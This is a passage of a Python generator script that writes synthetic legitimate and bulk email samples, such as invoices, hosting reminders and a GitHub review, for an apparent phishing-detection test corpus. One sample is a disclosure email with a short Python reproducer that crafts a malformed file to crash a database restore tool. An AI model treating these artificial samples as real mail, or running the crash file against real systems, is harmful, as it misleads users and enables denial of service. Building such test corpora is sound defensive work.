    extra=["List-Unsubscribe: <https://wessexalc.us21.list-manage.com/unsubscribe?u=" + tok("l16u", 25, HEX) + "&id="
           + tok("l16l", 10, HEX) + "&t=b&e=" + tok("l16e", 10, HEX) + "&c=" + tok("l16f", 10, HEX) + ">",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: Mailchimp Mailer - **CID" + tok("l16f", 20, HEX) + "**"],
    body=alt(next_b("l16"),
             "WALC Bulletin - April 2025\n\n1. AGAR deadlines: the 2024/25 Annual Governance and Accountability Return "
             f"is due with the external auditor by 1 July. Guidance: {_mc}{tok('l16a', 10, HEX)}\n\n2. New councillor "
             f"training sessions in May and June - book here: {_mc}{tok('l16g', 10, HEX)}\n\n3. Civility and Respect "
             f"toolkit updated: {_mc}{tok('l16h', 10, HEX)}\n\nUnsubscribe from this list.\nWessex Association of "
             "Local Councils, 4 Church Row, Ashcombe AC1 3PQ\n",
             card("WALC Bulletin", "April 2025",
                  [f'<b>AGAR deadlines</b> - the 2024/25 Annual Governance and Accountability Return is due with the '
                   f'external auditor by 1 July. <a href="{_mc}{tok("l16a", 10, HEX)}">Read the guidance</a>',
                   f'<b>New councillor training</b> - sessions in May and June. <a href="{_mc}{tok("l16g", 10, HEX)}">'
                   'Book a place</a>',
                   f'<b>Civility and Respect toolkit</b> updated for 2025. <a href="{_mc}{tok("l16h", 10, HEX)}">'
                   'Download</a>'], color="#2d6a4f",
                  foot="Wessex Association of Local Councils, 4 Church Row, Ashcombe AC1 3PQ. You are receiving this "
                       "as clerk of a member council. Unsubscribe | Update preferences")))

add(slug="hostinger-genuine-renewal-reminder", cat="bulk", kind="bulk", site="riverbend", rcpt=COOPACC,
    desc="Genuine Hostinger reminder (hostinger.com DKIM pass, aligned DMARC) that the co-op's hosting plan renews "
         "automatically in 14 days; links to the real hPanel.",
    date="2025-08-05 10:15:33 +0000", from_=("Hostinger", "no-reply@hostinger.com"), to=COOPACC,
    subject="Your Premium Web Hosting plan renews in 14 days",
    mailfrom="bounce@mailer.hostinger.com", ip="185.224.136.14", rdns="mailer14.hostinger.com", helo="mailer14.hostinger.com",
    spf="pass", dkim=[("hostinger.com", "hostingermail1", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('l17m', 32, HEX)}@hostinger.com>",
    body=alt(php_b("l17"),
             "Hello Maya,\n\nYour Premium Web Hosting plan for riverbendfood.coop will renew automatically on 19 Aug "
             "2025 for 12 months (GBP 47.88). We'll charge your saved card ending 2291.\n\nNo action is needed. To "
             "review your subscription: https://hpanel.hostinger.com/billing/subscriptions\n\nHostinger International Ltd.\n",
             card("HOSTINGER", "Your plan renews soon",
                  ["Hello Maya,", "Your <b>Premium Web Hosting</b> plan for <b>riverbendfood.coop</b> will renew "
                   "automatically on <b>19 Aug 2025</b> for 12 months (GBP 47.88). We'll charge your saved card ending 2291.",
                   "No action is needed."],
                  label="View subscription", url="https://hpanel.hostinger.com/billing/subscriptions", color="#673de6",
                  foot="Hostinger International Ltd., 61 Lordou Vironos Street, 6023 Larnaca, Cyprus")))

_xero = f"https://in.xero.com/{tok('l18x', 40, ALNUM)}"
add(slug="xero-invoice-orchard-supplier", cat="clean", kind="legit", site="riverbend", rcpt=COOPACC,
    desc="Genuine Xero invoice from the co-op's real orchard supplier (post.xero.com DKIM pass, Reply-To the "
         "supplier), linking to the invoice on in.xero.com.",
    date="2025-09-26 15:40:18 +0100", from_=("Hollins Orchard Ltd", "messaging-service@post.xero.com"), to=COOPACC,
    subject="Invoice INV-0862 from Hollins Orchard Ltd for Riverbend Food Co-operative",
    mailfrom=f"bounces+{tok('l18b', 8, DIGITS)}@post.xero.com", ip="52.62.152.18", rdns="mta-152-18.post.xero.com",
    helo="mta-152-18.post.xero.com", spf="pass", dkim=[("post.xero.com", "xero1", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('l18m', 8, HEX)}-{tok('l18n', 4, HEX)}-{tok('l18o', 4, HEX)}@post.xero.com>",
    extra=["Reply-To: Beth Hollins <beth@hollinsorchard.co.uk>"],
    body=alt(java_b("l18"),
             "Hi Maya,\n\nHere's invoice INV-0862 for GBP 412.80.\n\nThe amount outstanding of GBP 412.80 is due on 10 "
             f"Oct 2025.\n\nView and pay your bill online: {_xero}\n\nFrom your online bill you can print a PDF, "
             "export a CSV, or create a free login and view your outstanding bills.\n\nIf you have any questions, "
             "please let us know.\n\nThanks,\nBeth Hollins\nHollins Orchard Ltd\n",
             card("Hollins Orchard Ltd", "Invoice INV-0862",
                  ["Hi Maya,", "Here's invoice INV-0862 for <b>GBP 412.80</b>.",
                   "The amount outstanding of GBP 412.80 is due on <b>10 Oct 2025</b>.",
                   "If you have any questions, please let us know.<br><br>Thanks,<br>Beth Hollins"],
                  label="View invoice", url=_xero, color="#13b5ea", foot="Sent via Xero")))

_dseu = (f"https://eu.docusign.net/Signing/EmailStart.aspx?a={tok('l19a', 8, HEX)}-{tok('l19b', 4, HEX)}-"
         f"{tok('l19c', 4, HEX)}-{tok('l19d', 4, HEX)}-{tok('l19e', 12, HEX)}&etti=24&acct={tok('l19f', 8, HEX)}-"
         f"{tok('l19g', 4, HEX)}-{tok('l19h', 4, HEX)}-{tok('l19i', 4, HEX)}-{tok('l19j', 12, HEX)}&er={tok('l19k', 8, HEX)}-"
         f"{tok('l19l', 4, HEX)}-{tok('l19m', 4, HEX)}-{tok('l19n', 4, HEX)}-{tok('l19o', 12, HEX)}")
add(slug="docusign-lease-renewal-letting-agent", cat="bulk", kind="bulk", site="riverbend", rcpt=COOPINFO,
    desc="Genuine DocuSign EU envelope (docusign.net DKIM pass) from the co-op's letting agent for the shop unit lease "
         "renewal that the committee had been expecting.",
    date="2025-06-30 11:04:27 +0000", from_=("Charlotte Ames via Docusign", "dse@eumail.docusign.net"), to=COOPINFO,
    subject="Please DocuSign: Lease Renewal - Unit 4 Mill Yard - Riverbend Food Co-op",
    mailfrom="dse@eumail.docusign.net", ip="185.81.100.131", rdns="mailfr131.eumail.docusign.net",
    helo="mailfr131.eumail.docusign.net", spf="pass", dkim=[("eumail.docusign.net", "s1", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('l19z', 32, HEX)}@eumail.docusign.net>",
    body=alt(java_b("l19"),
             "Charlotte Ames sent you a document to review and sign.\n\nREVIEW DOCUMENT\n"
             f"{_dseu}\n\nCharlotte Ames\ncharlotte.ames@millyard-lettings.co.uk\n\nHi all, as discussed at Thursday's "
             "meeting here is the renewal for Unit 4 (3 years, rent unchanged for year 1). Two committee signatures "
             "needed.\n\nDo Not Share This Email\n",
             card("Docusign", "Charlotte Ames sent you a document to review and sign.",
                  ["Charlotte Ames<br>charlotte.ames@millyard-lettings.co.uk",
                   "Hi all, as discussed at Thursday's meeting here is the renewal for Unit 4 (3 years, rent unchanged "
                   "for year 1). Two committee signatures needed."],
                  label="REVIEW DOCUMENT", url=_dseu, color="#ffc820",
                  foot="Do Not Share This Email. Powered by Docusign.")))

add(slug="member-volunteer-rota-fastmail", cat="clean", kind="legit", site="riverbend", rcpt=COOPINFO,
    desc="A co-op member writes from Fastmail (DKIM/DMARC pass) about the Saturday market volunteer rota; plain "
         "personal mail with no links.",
    date="2025-10-09 19:22:51 +0100", from_=("Jo Whitfield", "jowhitfield@fastmail.com"), to=COOPINFO,
    subject="Saturday market rota - can swap 18th",
    mailfrom="jowhitfield@fastmail.com", ip="103.168.172.153", rdns="fout-a2-smtp.messagingengine.com",
    helo="fout-a2-smtp.messagingengine.com", spf="pass",
    dkim=[("fastmail.com", "fm1", "pass"), ("messagingengine.com", "fm1", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('l20m', 8, HEX)}-{tok('l20n', 4, HEX)}-{tok('l20o', 4, HEX)}@app.fastmail.com>",
    extra=["User-Agent: Cyrus-JMAP/3.13.0-alpha0"],
    body=plain("Hi both,\n\nI'm away the weekend of the 18th (sister's wedding) so can't do the veg stall that morning. "
               "Priya says she can swap with me and I'll take her slot on the 25th instead. Could you update the rota "
               "sheet on the noticeboard?\n\nAlso the till roll is nearly out again.\n\nCheers,\nJo\n"))

_efax_pdf = files.pdf(["FAX - Lakeview Medical Records Dept.", "To: Brannigan & Shah LLP  Fax: 312-555-0199",
                       "From: Lakeview Medical Center  Fax: 312-555-0162", "Pages: 2 (including cover)", "",
                       "RE: Records request - patient D. Kowalski (authorisation on file)",
                       "Enclosed: treatment summary 03/2024 - 09/2024.", "",
                       "CONFIDENTIALITY NOTICE: This facsimile contains privileged information."], title="Fax")
add(slug="efax-genuine-records-pdf", cat="bulk", kind="bulk", site="brannigan", rcpt=RECEPTION,
    desc="Genuine eFax delivery (inbound.efax.com, j2 DKIM pass) of a medical records fax the firm requested, with "
         "the fax attached as a PDF rather than an HTML viewer.",
    date="2025-06-11 09:28:40 -0500", from_=("eFax", "message@inbound.efax.com"), to=RECEPTION,
    subject='eFax message from "3125550162" - 2 page(s), Caller-ID: 312-555-0162',
    mailfrom="message@inbound.efax.com", ip="204.11.168.112", rdns="mx112.efax.com", helo="mx112.efax.com",
    spf="pass", dkim=[("inbound.efax.com", "j2", "pass")], dmarc=("pass", "none"),
    msgid=f"<chi1_did42-1749634102-3125550162-88@inbound.efax.com>",
    body=mixed(next_b("l21"),
               plain("You have received a 2 page fax at 2025-06-11 09:28:22 CST.\n\n* The reference number for this fax "
                     "is chi1_did42-1749634102-3125550162-88.\n\nPlease visit www.efax.com/support if you have any "
                     "questions regarding this message or your service. You may also contact Corporate Support:\n"
                     "Email: corporatesupport@mail.efax.com\n\nThank you for using the eFax service!\n"),
               attachment("application/pdf", "FAX_20250611_1749634102_88.pdf", _efax_pdf)))

add(slug="client-estate-documents-comcast", cat="clean", kind="legit", site="brannigan", rcpt=NADIA,
    desc="An existing client replies from Comcast (comcast.net DKIM/DMARC pass) in an estate matter, attaching a "
         "scanned PDF of the will that was asked for; ordinary person-to-firm mail.",
    date="2025-05-06 13:11:44 -0500", from_=("Colleen Doyle", "colleen.doyle58@comcast.net"), to="Nadia Shah <nshah@branniganshah.com>",
    subject="Re: Estate of Margaret Doyle - documents",
    mailfrom="colleen.doyle58@comcast.net", ip="96.102.200.40", rdns="resqmta-a1p-077040.sys.comcast.net",
    helo="resqmta-a1p-077040.sys.comcast.net", spf="pass", dkim=[("comcast.net", "20190202a", "pass")],
    dmarc=("pass", "quarantine"), msgid=f"<{tok('l22m', 10, DIGITS)}.{tok('l22n', 6, DIGITS)}@connect.xfinity.com>",
    extra=[f"In-Reply-To: <{tok('l22r', 20, HEX)}@branniganshah.com>", "X-Mailer: Open-Xchange Mailer v7.10.6-Rev70"],
    body=mixed(next_b("l22"),
               plain("Hi Nadia,\n\nAttached is the scan of Mom's 2019 will that you asked for. The original is in the "
                     "safe deposit box at First Federal; my brother has the second key and can bring it on the 14th.\n\n"
                     "I also found the deed for the lake cabin - should I bring that too?\n\nThank you,\nColleen Doyle\n"
                     "(319) 555-0148\n"),
               attachment("application/pdf", "Doyle_Will_2019_scan.pdf",
                          files.pdf(["LAST WILL AND TESTAMENT OF MARGARET ANNE DOYLE", "", "I, Margaret Anne Doyle, "
                                     "of Marion, Iowa, being of sound mind, declare this to be my will...", "",
                                     "[scanned copy - 6 pages]"], title="Scan 2025-05-06"))))

add(slug="isp-zimbra-maintenance-notice", cat="bulk", kind="bulk", site="brannigan", rcpt=PATRICK,
    desc="Real maintenance notice from the regional ISP that hosts the firm's Zimbra (tricountynet.net DKIM pass, "
         "internal relay) announcing a webmail upgrade window and stating that no action or password is needed.",
    date="2025-11-05 16:30:00 -0600", from_=("Tri-County Net Support", "support@tricountynet.net"),
    to="Tri-County Net business customers <business-notices@tricountynet.net>",
    subject="Scheduled maintenance: Zimbra webmail upgrade, Sunday Nov 9, 1:00-5:00 AM CST",
    mailfrom="support@tricountynet.net", ip="66.118.40.12", rdns="notify1.tricountynet.net", helo="notify1.tricountynet.net",
    spf="pass", dkim=[("tricountynet.net", "zimbra", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('l23m', 20, DIGITS)}.{tok('l23n', 6, DIGITS)}@tricountynet.net>",
    extra=["Precedence: bulk", "Auto-Submitted: auto-generated"],
    body=plain("Dear Tri-County Net business customer,\n\nWe will upgrade our hosted Zimbra platform to Zimbra 10.1 on "
               "Sunday, November 9, between 1:00 and 5:00 AM CST. Webmail (https://mail.tricountynet.net) may be "
               "unavailable for up to 30 minutes during this window. Mail will be queued, not lost.\n\nYou do not need "
               "to do anything. Your password, folders and settings are not affected. Tri-County Net will never ask you "
               "to enter your password through a link in an email; if you receive such a message, please forward it "
               "to abuse@tricountynet.net.\n\nService status: https://status.tricountynet.net\nQuestions: (563) 555-0100, "
               "option 2\n\nThank you,\nTri-County Net Network Operations\n"))

_pr = "https://github.com/tinkerdb/tinkerdb/pull/1877"
add(slug="github-genuine-pr-review", cat="bulk", kind="bulk", site="tinker", rcpt=JONAS,
    desc="Genuine GitHub pull-request review notification (notifications@github.com, DKIM/DMARC pass) from a regular "
         "contributor, with a code suggestion and links only to github.com.",
    date="2025-06-12 09:14:03 -0700", from_=("Marta Kowalska", "notifications@github.com"),
    to="tinkerdb/tinkerdb <tinkerdb@noreply.github.com>",
    subject="Re: [tinkerdb/tinkerdb] Add io_uring backend for WAL writer (PR #1877)",
    mailfrom="noreply@github.com", ip="192.30.252.201", rdns="out-18.smtp.github.com",
    helo="out-18.smtp.github.com", spf="pass", dkim=[("github.com", "pf2023", "pass")], dmarc=("pass", "reject"),
    msgid=f"<tinkerdb/tinkerdb/pull/1877/review/{tok('l24r', 10, DIGITS)}@github.com>",
    extra=[f"Reply-To: tinkerdb/tinkerdb <reply+A{tok('l24x', 40, UPNUM)}@reply.github.com>",
           "In-Reply-To: <tinkerdb/tinkerdb/pull/1877@github.com>", "References: <tinkerdb/tinkerdb/pull/1877@github.com>",
           "List-ID: tinkerdb/tinkerdb <tinkerdb.tinkerdb.github.com>", "List-Archive: https://github.com/tinkerdb/tinkerdb",
           "List-Unsubscribe: <mailto:unsub+A" + tok("l24u", 30, UPNUM) + "@reply.github.com>",
           "X-GitHub-Sender: mkowalska", "X-GitHub-Recipient: jreiter", "X-GitHub-Reason: author",
           "X-GitHub-Notify-Platform: newsies", "Precedence: list"],
    body=alt(f"--==_mimepart_{tok('l24p', 13, HEX)}_{tok('l24q', 4, DIGITS)}",
             "@mkowalska commented on this pull request.\n\n> +    ret = io_uring_submit_and_wait(&w->ring, 1);\n\n"
             "This blocks the writer thread when the SQ is full; can we use `io_uring_submit` and reap completions "
             "in the flush path instead? Otherwise LGTM, benchmarks look great on my box (+38% on fsync-heavy).\n\n"
             f"-- \nReply to this email directly, view it on GitHub:\n{_pr}#discussion_r{tok('l24d', 10, DIGITS)}\n"
             "You are receiving this because you authored the thread.\n",
             f"<p><b>@mkowalska</b> commented on this pull request.</p>\n<hr>\n<p dir=\"auto\">In <a href=\"{_pr}/files\">"
             "src/wal/writer_uring.c</a>:</p>\n<pre>+    ret = io_uring_submit_and_wait(&amp;w-&gt;ring, 1);</pre>\n"
             "<p dir=\"auto\">This blocks the writer thread when the SQ is full; can we use <code>io_uring_submit</code> "
             "and reap completions in the flush path instead? Otherwise LGTM, benchmarks look great on my box (+38% on "
             "fsync-heavy).</p>\n<p style=\"font-size:small;color:#666;\">&mdash;<br />Reply to this email directly, "
             f"<a href=\"{_pr}#discussion_r{tok('l24d', 10, DIGITS)}\">view it on GitHub</a>.<br />You are receiving "
             "this because you authored the thread.</p>\n"))

add(slug="genuine-security-report-inline-poc", cat="clean", kind="legit", site="tinker", rcpt=SECURITY,
    desc="A real coordinated-disclosure report from a researcher on her own domain (DKIM/DMARC pass, plain text) "
         "describing a bug with a short inline Python reproducer; no attachments, no links except the project's own.",
    date="2025-09-08 21:03:17 +0200", from_=("Hanna Voss", HANNA), to=SECURITY,
    subject="[security] Out-of-bounds read in snapshot header parsing (tinkerdb 3.7.x)",
    mailfrom=HANNA, ip="95.217.41.86", rdns="mx.hvoss.net", helo="mx.hvoss.net", spf="pass",
    dkim=[("hvoss.net", "mail2025", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('l25m', 8, HEX)}-{tok('l25n', 4, HEX)}-{tok('l25o', 4, HEX)}@hvoss.net>",
    hops=[local_hop("p54a0211f.dip0.t-ipconnect.de", "84.160.33.31", "mx.hvoss.net", "l25h")],
    extra=["User-Agent: Mozilla Thunderbird", "Content-Language: en-US"],
    body=plain("Hi TinkerDB security team,\n\nwhile fuzzing the snapshot loader I found an out-of-bounds read in "
               "snap_read_header() (src/snapshot/header.c:212): the section count from the file is used to index the "
               "offsets table before it is checked against the header length. A 64-byte file is enough to crash "
               "tinkerdb-restore (ASan report below). I don't think it is exploitable beyond a read crash, but the "
               "restore tool is often run as root.\n\nReproducer (Python 3):\n\n    import struct\n    hdr = b'TKSN' + "
               "struct.pack('<HHI', 3, 0, 0xffff) + b'\\0' * 52\n    open('crash.snap', 'wb').write(hdr)\n    # "
               "tinkerdb-restore --from crash.snap\n\nTested on 3.7.4 and main at 4f2c1e9. I'm happy to follow your "
               "usual 90-day policy (https://tinkerdb.org/security) and would appreciate a credit line.\n\n"
               "ASan: READ of size 8 at 0x6020000000f8 thread T0 in snap_read_header header.c:212\n\nBest,\nHanna\n--\n"
               "Hanna Voss - https://hvoss.net - PGP 4E1A 77C2 0B9D 3F58 1C62  A0E4 7B13 9D2F 86C1 5E0A\n"))


# ==========================================================================
# Output
# ==========================================================================

def check(data: bytes, name: str) -> None:
    """Parse with the standard library's default policy: no defects anywhere, every leaf decodes."""
    msg = BytesParser(policy=policy.default).parsebytes(data)
    for part in msg.walk():
        assert not part.defects, (name, part.get_content_type(), part.defects)
        for key, value in part.items():
            assert not getattr(value, "defects", ()), (name, key, value.defects)
        if not part.is_multipart():
            part.get_content()
    assert msg["From"] and msg["To"] and msg["Subject"] and msg["Date"] and msg["Message-ID"], name
    assert all(len(line) < 998 for line in data.split(b"\n")), name


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {
    "b21-bulk-hosted-pbx-voicemail-wav.eml": "clean", "b21-bulk-docusign-lease-renewal-letting-agent.eml": "clean",
    "b21-bulk-efax-genuine-records-pdf.eml": "clean", "b21-legit-xero-invoice-orchard-supplier.eml": "bulk",
}


def main() -> None:
    slugs = [m["slug"] for m in MESSAGES]
    assert len(slugs) == len(set(slugs)), "duplicate slug"
    attacks = [m for m in MESSAGES if m["kind"] == "phish"]
    legit = [m for m in MESSAGES if m["kind"] in ("legit", "bulk")]
    assert len(attacks) == 50 and len(legit) == 25, (len(attacks), len(legit))
    assert all(m["cat"] in ("phishing", "malware") for m in attacks)
    assert all(m["cat"] in ("clean", "bulk") for m in legit)
    manifest, counts = [], {}
    for m in MESSAGES:
        data = build(m)
        name = f"b{SET}-{m['kind']}-{m['slug']}.eml"
        check(data, name)
        folder = REFILED.get(name, m["cat"])
        path = OUT / folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        manifest.append(f"samples/mail/{folder}/{name} | {m['cat']} | {m['desc']}")
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
    MANIFEST.write_text("\n".join(manifest) + "\n")
    print(f"wrote {len(MESSAGES)} messages to {OUT}: "
          + ", ".join(f"{cat}={n}" for cat, n in sorted(counts.items())))
    print(f"manifest: {MANIFEST.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
